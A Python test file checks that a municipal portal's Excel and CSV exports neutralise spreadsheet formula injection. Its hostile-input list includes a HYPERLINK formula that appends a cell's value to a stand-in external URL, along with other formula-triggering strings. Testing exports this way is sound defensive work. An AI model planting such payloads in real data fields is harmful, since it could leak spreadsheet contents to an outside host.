"""Every export writes typed text as text: a title such as =HYPERLINK(…) is no formula in the
municipality's Excel, a control character does not break the file. One writer (portal/xlsx.py)
serves every export; each export is downloaded here through its route."""

from __future__ import annotations

import csv
import io

import httpx
import openpyxl
import pytest

from ledger.tables import CatalogueEntry, Entry, Project
from portal.xlsx import csv_cell, reads_as_formula, xlsx_workbook
from proposals.tables import Proposal, Theme
from tests import factories
from tests.portal.test_access_matrix import World
from tests.portal.test_access_matrix import world as world  # the fixture
from tests.proposals.conftest import zw as zw  # the fixture
from tests.web import log_in

HOSTILE = [
    '=HYPERLINK("http://x.example/"&B2,"Klik hier")',
    "+1+1",
    "-2",
    "@SUM(A1)",
    "\t=1",
    "#N/A",
]
BELL = "Titel met\x07bel"


@pytest.fixture
async def hostile_world(world: World) -> World:
    """The world with the first hostile text in every title people type, and the others in
    the proposal's and project's other texts."""
    title = HOSTILE[0]
    await Proposal.update({Proposal.title: title, Proposal.summary: BELL}, force=True)
    await Project.update({Project.title: title}, force=True)
    await CatalogueEntry.update({CatalogueEntry.title: title}, force=True)
    await Theme.update({Theme.name: HOSTILE[3]}, force=True)
    await Entry.update({Entry.reason: HOSTILE[1], Entry.document_reference: HOSTILE[5]}, force=True)
    return world


def _xlsx_texts(content: bytes) -> list[tuple[str, object, str]]:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [
        (cell.coordinate, cell.value, cell.data_type)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


@pytest.mark.parametrize(
    "path",
    ["/n/zuid-west/voorstellen/export.xlsx?lijst=alle", "/n/zuid-west/projectenbank/themas.xlsx"],
)
async def test_xlsx_exports_write_typed_text_as_text(
    path: str, hostile_world: World, client: httpx.AsyncClient
) -> None:
    await log_in(client, await factories.email_of(hostile_world.users["coordinator"]))
    response = await client.get(path)
    assert response.status_code == 200, response.text
    assert response.headers["cache-control"] == "private, no-store"
    cells = _xlsx_texts(response.content)
    formulas = [c for c in cells if c[2] == "f" or c[2] == "e"]
    assert not formulas, f"typed text became a formula or error: {formulas}"
    values = [str(v) for _, v, _ in cells]
    assert any(HOSTILE[0] in v for v in values), "the hostile title is not in the export"
    assert not any("\x07" in v for v in values)


@pytest.mark.parametrize(
    ("path", "typed"),
    [
        ("/n/zuid-west/voorstellen/export.csv?lijst=alle", HOSTILE[0]),
        ("/n/zuid-west/begroting/{year_id}/mutaties/export.csv", HOSTILE[1]),
    ],
)
async def test_csv_exports_mark_formula_text_as_text(
    path: str, typed: str, hostile_world: World, client: httpx.AsyncClient
) -> None:
    await log_in(client, await factories.email_of(hostile_world.users["coordinator"]))
    response = await client.get(path.format(year_id=hostile_world.values["year_id"]))
    assert response.status_code == 200, response.text
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    fields = [field for row in rows[1:] for field in row]
    assert "'" + typed in fields
    assert not any(reads_as_formula(field) for field in fields if field), fields


@pytest.mark.parametrize("typed", [*HOSTILE, BELL])
def test_one_rule_for_every_cell(typed: str) -> None:
    content = xlsx_workbook("Proef", "Blad", [("Tekst", "text")], [[typed]])
    [(_, header, _), (_, value, data_type)] = _xlsx_texts(content)
    assert header == "Tekst"
    assert data_type == "s"
    assert value == typed.replace("\x07", "")
    if reads_as_formula(typed):
        assert csv_cell(typed, "text") == "'" + typed
